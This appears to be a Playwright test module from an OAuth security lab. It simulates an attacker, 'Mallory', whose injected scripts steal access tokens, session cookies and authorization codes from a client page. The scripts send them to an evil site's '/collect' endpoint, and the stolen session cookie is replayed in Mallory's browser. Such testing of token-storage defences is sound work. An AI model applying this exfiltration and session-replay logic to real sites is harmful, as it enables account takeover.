import type { Page } from "@playwright/test";
import { ALICE, ALICES_PHOTO, SCOPE } from "../../../src/grants/cast.ts";
import { sessionIn, stolenSessionCookie } from "../../../src/grants/steps/client-pages.ts";
import { jsonObject } from "../../../src/oauth/json.ts";
import { withQuery } from "../../../src/oauth/wire.ts";
import type { Origins } from "../addresses.ts";
import { lootIn, spendLoot, callApi } from "../attacker.ts";
import { settledAtPrint, signInAndAllow, signInToPrint } from "../people.ts";
import { callbackOf, type Keeping } from "../print/setup.ts";
import type { RealAttack, Scene } from "../scene.ts";
import { script } from "../scripts.ts";
import type { Target } from "../../../src/attacks/target.ts";

/** Where Mallory's script looks, by where the token is kept. */
const PLACES: Readonly<Record<Keeping, string>> = {
  memory: "functions",
  sessionStorage: "sessionStorage",
  localStorage: "localStorage",
  worker: "everything",
};

/** Mallory's script looks for a token in a page that keeps one there. */
export function lookForToken(keeps: Keeping): RealAttack {
  return {
    print: async () => ({
      keeps,
      embeds: await inline("evil/look-for-token", { look: PLACES[keeps] }),
    }),
    async run(scene) {
      const stopped = blocked(scene.alice);
      await (keeps === "worker"
        ? signInByWindow(scene)
        : signInToPrint(scene.alice, scene.sites, ALICE));
      const token = await reported(scene, stopped);
      return token === undefined || token === "" ? undefined : callApi(scene, token);
    },
  };
}

/** Mallory's script reads the cookies of a page whose tokens are kept on a server. */
export const readCookies: RealAttack = {
  print: async () => ({ embeds: await inline("evil/read-cookies") }),
  async run(scene) {
    const { alice, sites } = scene;
    const stopped = blocked(alice);
    await signInToPrint(alice, sites, ALICE);
    const cookies = await reported(scene, stopped);
    const session = sessionIn(cookies ?? "");
    if (session === undefined) return undefined;
    const { print } = sites.origins;
    const mallory = await scene.mallory();
    await mallory.goto(`${print}/`);
    await mallory.evaluate(
      (cookie) => {
        document.cookie = cookie;
      },
      `${stolenSessionCookie(session)}; Path=/; Secure`,
    );
    await mallory.goto(`${print}/photos`);
    const { text } = await settledAtPrint(mallory);
    return text.includes(ALICES_PHOTO)
      ? "Print shows Alice’s photos in Mallory’s browser"
      : undefined;
  },
};

/** Mallory's script asks the page's own server for a token. */
export const askForToken: RealAttack = {
  print: async () => ({ embeds: await inline("evil/ask-own-server") }),
  async run(scene) {
    const stopped = blocked(scene.alice);
    await signInToPrint(scene.alice, scene.sites, ALICE);
    const token = await reported(scene, stopped);
    return token === undefined ? undefined : callApi(scene, token);
  },
};

/** Mallory's script has the authorization server answer once more, in a second window. */
export const askSilently: RealAttack = {
  print: async (origins, target) => ({
    embeds: await inline("evil/ask-silently", {
      request: requestOf(origins, target),
      pkce: String(target.pkce),
    }),
  }),
  async run(scene) {
    const { alice, sites } = scene;
    const stopped = blocked(alice);
    await signInToPrint(alice, sites, ALICE);
    await alice.locator("main").click();
    const found = jsonObject((await reported(scene, stopped)) ?? "") ?? {};
    const [address, verifier] = [String(found["address"]), String(found["verifier"])];
    return spendLoot(scene, lootIn([address]), scene.target.pkce ? { verifier } : {});
  },
};

export function requestOf(origins: Origins, { client }: Target): string {
  return withQuery(`${origins.auth}/authorize`, {
    response_type: client.answer,
    client_id: client.id,
    redirect_uri: callbackOf(origins),
    scope: SCOPE,
  });
}

/** The script in the page itself, as a hole in the page would put it there. */
export async function inline(
  name: string,
  data: Readonly<Record<string, string>> = {},
): Promise<string> {
  const attributes = Object.entries(data).map(
    ([key, value]) => ` data-${key}="${value.replaceAll("&", "&amp;")}"`,
  );
  return `<script${attributes.join("")}>${await script(name)}</script>`;
}

/** Resolves when the page's policy kept a script from running (CSP3 §5). */
function blocked(page: Page): Promise<undefined> {
  return new Promise((resolve) => {
    page.on("console", (message) => {
      if (/Content Security Policy/.test(message.text())) resolve(undefined);
    });
  });
}

/** What Mallory's script reported; nothing when it never ran. */
async function reported(
  { sites }: Scene,
  stopped: Promise<undefined>,
): Promise<string | undefined> {
  const reports = await Promise.race([sites.evil.arrivals("/collect", 1), stopped]);
  return reports?.[0]?.body;
}

/** Alice signs in by the window that Print opens for it; Print's page stays. */
async function signInByWindow({ alice, sites }: Scene): Promise<void> {
  await alice.goto(`${sites.origins.print}/`);
  const opened = alice.waitForEvent("popup");
  await alice.getByText("Log in with auth.localhost").click();
  await signInAndAllow(await opened, ALICE);
  await settledAtPrint(alice);
}
